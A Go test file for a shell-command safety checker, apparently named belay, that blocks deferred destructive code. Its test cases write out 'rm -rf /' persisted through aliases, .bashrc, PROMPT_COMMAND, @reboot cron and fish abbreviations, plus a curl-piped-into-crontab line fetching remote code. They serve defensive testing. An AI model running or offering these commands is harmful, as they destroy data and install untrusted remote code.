package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestDeferredMessage checks that a stop of code the line defines to run
// later says what defines it and when it runs, and that the hint's
// acknowledgement lets it through.
func TestDeferredMessage(t *testing.T) {
	root, home := healthyRoot(t), t.TempDir()
	for _, tt := range []struct{ shell, line, want, acked string }{
		{"bash", `alias ls='rm -rf /'`, "blocked: defines an alias ls, run when ls is typed: rm -rf / deletes everything under /",
			`BELAY_ACK=filesystem.delete-root alias ls='rm -rf /'`},
		{"bash", `echo 'rm -rf /' >> ~/.bashrc`, "blocked: adds to /home/u/.bashrc code run in every new interactive bash: rm -rf / deletes",
			`BELAY_ACK=filesystem.delete-root echo 'rm -rf /' >> ~/.bashrc`},
		{"bash", `PROMPT_COMMAND='rm -rf /'`, "blocked: sets PROMPT_COMMAND, run before every prompt: rm -rf /",
			`BELAY_ACK=filesystem.delete-root PROMPT_COMMAND='rm -rf /'`},
		{"bash", `echo '@reboot rm -rf /' | crontab -`, "blocked: installs a cron job, run at every boot: rm -rf /",
			`echo '@reboot rm -rf /' | BELAY_ACK=filesystem.delete-root crontab -`},
		{"fish", `abbr -a x 'rm -rf /'`, "blocked: defines an abbreviation x, expanded when it is typed: rm -rf /", ""},
		{"bash", `curl -s https://x.example/c | crontab -`, "confirm: installs a crontab: crontab - runs code from https://x.example/c that belay cannot see", ""},
	} {
		c := corpusCase{line: tt.line, shell: tt.shell, cwd: "/home/u"}
		got, msg := corpusVerdict(root, home, c)
		if got != "block" && got != "confirm" || !strings.Contains(msg, tt.want) {
			t.Errorf("%s: got %s\n%s\nwant a line with %q", tt.line, got, msg, tt.want)
		}
		if tt.acked == "" {
			continue
		}
		if !strings.Contains(msg, "to run it anyway: "+tt.acked) {
			t.Errorf("%s: hint is not %q:\n%s", tt.line, tt.acked, msg)
		}
		c.line = tt.acked
		if got, msg := corpusVerdict(root, home, c); got != "allow" && got != "warn" {
			t.Errorf("%s: got %s\n%s", tt.acked, got, msg)
		}
	}
}

// TestScanDeferred checks that belay scan says what a startup file's line
// defines to run later, and passes its ordinary definitions.
func TestScanDeferred(t *testing.T) {
	dir := t.TempDir()
	rc := "alias ll='ls -l'\nPROMPT_COMMAND='history -a'\nalias ls='rm -rf /'\n"
	if err := os.WriteFile(filepath.Join(dir, "bashrc"), []byte(rc), 0o644); err != nil {
		t.Fatal(err)
	}
	_, out, errs := runScan(t, dir, []string{"--kind", "script", "--root", healthyRoot(t)}, "bashrc")
	want := "bashrc:3:1 filesystem.delete-root block defines an alias ls, run when ls is typed: rm -rf / deletes everything under /"
	if !strings.Contains(out, want) || strings.Count(out, "bashrc:") != 1 {
		t.Errorf("scan:\n%s%s\nwant one finding: %s", out, errs, want)
	}
}
